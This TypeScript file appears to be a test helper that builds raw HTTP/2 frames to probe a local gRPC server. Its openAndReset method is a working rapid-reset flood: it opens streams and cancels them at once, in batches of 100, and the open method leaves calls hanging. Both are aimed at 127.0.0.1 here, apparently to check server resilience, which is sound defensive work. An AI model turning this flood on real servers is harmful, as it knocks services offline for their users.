// RawHttp2: frames of HTTP/2 as no well-behaved client sends them (RFC 9113 and 7541, the little that an attack needs).
import { once } from 'node:events';
import net from 'node:net';
import tls from 'node:tls';

const kPreface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const kHeaders = 1;
const kResetStream = 3;
const kSettings = 4;
const kAcknowledged = 1;
const kEndHeaders = 4;
const kCancel = 8;

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

// A string of up to 16 kB, not Huffman-coded.
function text(value: string): Buffer {
  const bytes = Buffer.from(value);
  if (bytes.length < 127) return Buffer.concat([Buffer.from([bytes.length]), bytes]);
  let rest = bytes.length - 127;
  const length = [127];
  for (; rest >= 128; rest = Math.floor(rest / 128)) length.push((rest % 128) | 128);
  length.push(rest);
  return Buffer.concat([Buffer.from(length), bytes]);
}

function headerBlock(path: string, more: [string, string][]): Buffer {
  return Buffer.concat([
    Buffer.from([0x83, 0x87]), // :method POST, :scheme https
    Buffer.from([0x04]), text(path),
    Buffer.from([0x01]), text('localhost'),
    Buffer.from([0x0f, 0x10]), text('application/grpc'), // content-type
    Buffer.from([0x00]), text('te'), text('trailers'),
    ...more.flatMap(([name, value]) => [Buffer.from([0x00]), text(name), text(value)]),
  ]);
}

export class RawHttp2 {
  private nextStream = 1;
  closed = false;

  private constructor(private readonly socket: net.Socket, private readonly acknowledge: boolean) {
    socket.on('error', () => undefined);
    socket.on('close', () => {
      this.closed = true;
    });
    socket.on('data', (bytes: Buffer) => {
      // Good enough for a peer whose first frame is SETTINGS.
      if (this.acknowledge && bytes.length >= 9 && bytes[3] === kSettings && (bytes[4] & kAcknowledged) === 0) {
        socket.write(frame(kSettings, kAcknowledged, 0, Buffer.alloc(0)));
      }
    });
  }

  // `authority`: of the peer's certificate; undefined: plain text.
  static async connect(port: number, authority?: Buffer, options = { acknowledge: true }): Promise<RawHttp2> {
    const socket = authority
      ? tls.connect({ port, host: '127.0.0.1', servername: 'localhost', ca: authority, ALPNProtocols: ['h2'] })
      : net.connect(port, '127.0.0.1');
    await once(socket, authority ? 'secureConnect' : 'connect');
    const connection = new RawHttp2(socket, options.acknowledge);
    socket.write(Buffer.concat([kPreface, frame(kSettings, 0, 0, Buffer.alloc(0))]));
    return connection;
  }

  // Opens a call and leaves it open.
  open(path: string, more: [string, string][] = []): void {
    this.socket.write(frame(kHeaders, kEndHeaders, this.nextStream, headerBlock(path, more)));
    this.nextStream += 2;
  }

  // Opens and resets `count` calls as fast as the peer reads; false where it closed the connection first.
  async openAndReset(path: string, count: number): Promise<boolean> {
    const block = headerBlock(path, []);
    const reset = Buffer.alloc(4);
    reset.writeUInt32BE(kCancel);
    for (let done = 0; done < count && !this.closed;) {
      const frames: Buffer[] = [];
      for (let i = 0; i < 100; ++i, ++done, this.nextStream += 2) {
        frames.push(frame(kHeaders, kEndHeaders, this.nextStream, block), frame(kResetStream, 0, this.nextStream, reset));
      }
      if (!this.socket.write(Buffer.concat(frames))) await Promise.race([once(this.socket, 'drain'), once(this.socket, 'close')]);
    }
    return !this.closed;
  }

  destroy(): void {
    this.socket.destroy();
  }
}
